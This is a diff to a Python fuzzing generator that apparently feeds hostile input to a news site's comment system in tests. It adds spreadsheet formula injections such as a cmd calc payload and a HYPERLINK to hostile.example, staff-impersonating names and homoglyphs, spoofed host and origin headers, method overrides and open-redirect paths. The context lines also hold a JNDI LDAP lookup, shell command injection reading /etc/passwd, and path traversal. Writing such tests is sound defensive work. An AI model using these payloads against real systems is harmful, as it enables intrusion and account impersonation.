@@ -13,7 +13,11 @@ from urllib.parse import quote
 MARK = "hostile"
 CALL = f"{MARK}()"
 BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"
-UNSEEN = "\u200b\u2060\ufeff\u00ad\u180e\u00a0\u3164\u2800\u034f\u2028\u2029\U000e0041\ufff9"
+UNSEEN = (
+    "\u200b\u2060\ufeff\u00ad\u180e\u00a0\u3164\u2800\u034f\u2028\u2029\U000e0041\ufff9"
+    # No letters at all, and of two of them no XML is made.
+    "\u2062\u206a\ufe0f\U000e0100\u1160\u0085\ufdd0\U0001fffe\ufffe\uffff"
+)
 JOINERS = "\u200c\u200d"
 SCRIPTS = (
     f"<script>{CALL}</script>",
@@ -57,9 +61,40 @@ TEMPLATES = (
     "%(name)s %s %d {0} {name} {name.__class__.__mro__} %%",
     "${jndi:ldap://hostile.example/x}",
     "$(touch /tmp/hostile) `id` | cat /etc/passwd",
-    '=HYPERLINK("//hostile.example") @SUM(1) +1 -1',
     "../../../../etc/passwd%00.html",
 )
+# What a spreadsheet would work out, and one in East Asia.
+FORMULAS = (
+    '=HYPERLINK("//hostile.example")', "=cmd|'/C calc'!A0", "+1+cmd", "-2+3", "@SUM(1+1)",
+    "\t=1+1", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(1)", '";=1+1;"', '",=1+1,"',
+)  # fmt: skip
+# Names that would be somebody's of the house, or the page's own words.
+POSES = (
+    "Staff", "Signe Tarn \u2713 Staff", "Gazette\u00a0\u2714", "Ｓｔａｆｆ", "Ѕtаff",
+    "Editor’s pick", "Removed by a moderator.",
+    "Signe Tarn</bdi> <span class='badge'>Staff</span><bdi>",
+    "Signe Tarn\u2003\u2003\u2003Staff", "%(name)s", "in reply to Signe Tarn", "🛡️ Moderator",
+)  # fmt: skip
+# What a request says of itself besides its form.
+REQUESTS = (
+    {"origin": "http://["}, {"origin": "http://[x]"}, {"origin": "http://ex\u2100mple"},
+    {"origin": "http://testserver@hostile.example"}, {"origin": "http://testserver.hostile.example"},
+    {"origin": "null"}, {"origin": "null", "sec-fetch-site": "cross-site"},
+    {"referer": "http://]/"}, {"sec-fetch-site": "\u00fc"},
+    {"host": "hostile.example"}, {"host": "testserver:99999"}, {"host": "[::1"},
+    {"x-forwarded-host": "hostile.example", "x-original-url": "/admin/"},
+    {"x-forwarded-for": "127.0.0.1, [::1], unknown" + ",1" * 3000, "forwarded": "for=_x;host=x"},
+    {"x-http-method-override": "DELETE", "x-method-override": "PUT"},
+    {"cookie": 'sessionid="\\000\\000\\000\\000\\000\\000\\000\\000"; csrftoken=' + "%" * 99},
+    {"cookie": "sessionid=" + "a" * 9000 + "; messages=[[x; django_language=../../x"},
+    {"content-encoding": "gzip", "transfer-encoding": "chunked"},
+    {"accept-language": "x" * 9000 + ",ar;q=9", "accept": "x/y;q=z"},
+    {"accept-encoding": "gzip;q=\u00b2, *;q=" + "9" * 5000},
+    {"if-none-match": "W/" * 3000, "if-modified-since": "Mon, 99 Jan 99999 00:00:00 GMT"},
+    {"range": "bytes=-99999999999", "if-match": "*", "expect": "100-continue"},
+    {"authorization": "Bearer \u00fc", "user-agent": f"<script>{CALL}</script>"},
+    {"content-length": "abc"}, {"content-length": "-1"}, {"content-length": ""},
+)  # fmt: skip
 HEADERS = (
     "Odd\r\nBcc: all@hostile.example",
     "Odd\nSubject: hostile\n\nhostile",
@@ -100,6 +135,8 @@ FORGED = {
     "is_listed": "on", "picked_at": "2026-11-23", "verified_at": "2026-11-23", "version": "9",
     "story": "1", "story_id": "1", "parent": "1", "root": "1", "submitted_at": "2000-01-01",
     "claimed_by": "1", "csrfmiddlewaretoken": "x", "_method": "DELETE", "form_hash": "x",
+    "account": "1", "nonce": "calm-1", "was_nudged": "1", "reply_number": "1", "shown_replies": "9",
+    "address_hash": "x", "next": "//hostile.example", "erased_at": "2026-11-23",
 }  # fmt: skip
 
 
@@ -112,6 +149,7 @@ class Submission:
     presses     how often the button is pressed
     more        fields that no reader may set
     content     the body as it is, with its type, in place of the fields
+    headers     what the request says of itself, beside or in place of what a browser would
     """
 
     kind: str
@@ -123,6 +161,7 @@ class Submission:
     presses: int = 1
     more: dict[str, Any] = field(default_factory=dict)
     content: tuple[bytes, str] | None = None
+    headers: dict[str, str] = field(default_factory=dict)
 
     @property
     def fields(self) -> dict[str, Any]:
@@ -131,10 +170,11 @@ class Submission:
 
 
 # Those of a form for another story, for a comment that is gone or under another story; one changed
-# by a letter, private links, nothing.
+# by a letter, private links, nothing; one that somebody used, or that is too old, or not given out
+# yet.
 TICKETS = (
     "other story", "gone parent", "parent elsewhere", "changed", "private link", "mail link", "",
-    "long", "binary",
+    "long", "binary", "used", "old", "of tomorrow",
 )  # fmt: skip
 NUMBERS = ("9" * 5000, "9" * 19, "-1", "0", "٣", "²", "1e9", "1_000", "\x00", "NaN", "")
 PATHS = (
@@ -147,11 +187,19 @@ PATHS = (
     "/comments/me/{x}/", "/search/?q={x}&page={n}", "/topic/{x}/", "/{x}/", "/?page={n}",
     "/story/{id}/{x}/", "/api/stories/{x}", "/api/stories?limit={n}&offset={n}&page={n}",
     "/world/?page={n}", "/feeds/{x}/atom.xml", "/picture/{n}/{n}.jpeg", "/sitemap-{n}.xml",
+    "/story/{id}/comments/{n}/?{x}={x}", "/story/{id}/comments/?sort=oldest&sort={x}",
+    "/api/stories/{id}/comments?sort={x}&cursor={n}-{n}&limit={n}",
+    "/api/stories/{id}/comments/count?seen={x}", "/api/stories/{id}/comments/{n}/answers?after={n}",
+    "/comments/account/?story={x}&next=//hostile.example", "/comments/account/sign-in/{x}/",
+    "/comments/account/{n}/edit/", "/comments/me/{x}/csv/", "/comments/mine/{x}/verify-again/",
+    "//hostile.example/{x}", "/%5chostile.example/{x}", "/{x}//hostile.example",
+    "/admin/login/?next=//hostile.example/{x}", "/_util/login/{n}/{n}/?next=//hostile.example",
 )  # fmt: skip
 ROOM = (
     "/admin/comments/?queue={x}&story={n}&phase={x}&words={x}&after={n}-{n}",
     "/admin/comments/?queue=all&words={x}&after={x}", "/admin/comments/authors/{x}/",
-    "/admin/comments/lists/{x}/", "/admin/comments/figures/?after={n}",
+    "/admin/comments/lists/{x}/", "/admin/comments/figures/?after={n}&story={x}",
+    "/admin/comments/{n}/claim/", "/admin/comments/?done={x}", "/admin/comments/outside/{x}/",
 )  # fmt: skip
 
 
@@ -216,7 +264,12 @@ def _unseen(chance: random.Random) -> Submission:
 
 def _huge(chance: random.Random) -> Submission:
     size = chance.choice((3999, 4000, 4001, 16_000, 65_000, 300_000, 3_000_000))
-    unit = chance.choice(("x", "\ufb2c", "e\u0301", "🏴\u200d☠️", "\n", "<b>", "\u0344", "न", "&"))
+    units = (
+        *("x", "\ufb2c", "e\u0301", "🏴\u200d☠️", "\n", "<b>", "\u0344", "न", "&"),
+        # One letter for eighteen, for three; what patterns for links and words begin at.
+        *("\ufdfa", "\U0001d160", "http://", "www.", "a.", "@a.", "((", "a- ", "* ", "!?"),
+    )
+    unit = chance.choice(units)
     text = (unit * size)[:size]
     made = Submission("", text=text)
     if chance.random() < 0.3:
@@ -264,8 +317,24 @@ def _answer(chance: random.Random) -> Submission:
     return Submission("", text=_among(chance, SCRIPTS), answers=chance.choice(("shown", "deep")))
 
 
+def _formula(chance: random.Random) -> Submission:
+    made = Submission("", text=chance.choice(FORMULAS) + chance.choice((_words(chance), "")))
+    made.name = chance.choice(FORMULAS)
+    return made
+
+
+def _pose(chance: random.Random) -> Submission:
+    return Submission("", name=chance.choice(POSES), text=_among(chance, POSES))
+
+
+def _request(chance: random.Random) -> Submission:
+    headers = dict(chance.choice(REQUESTS))
+    return Submission("", text=_words(chance), headers=headers)
+
+
 def _double(chance: random.Random) -> Submission:
-    return Submission("", text=_among(chance, SCRIPTS + QUERIES), presses=chance.randint(2, 4))
+    presses = chance.choice((2, 2, 2, 4))
+    return Submission("", text=_among(chance, SCRIPTS + QUERIES), presses=presses)
 
 
 MAKERS: dict[str, Callable[[random.Random], Submission]] = {
@@ -280,6 +349,9 @@ MAKERS: dict[str, Callable[[random.Random], Submission]] = {
     "ticket": _ticket,
     "answer": _answer,
     "double": _double,
+    "formula": _formula,
+    "pose": _pose,
+    "request": _request,
 }
 
 
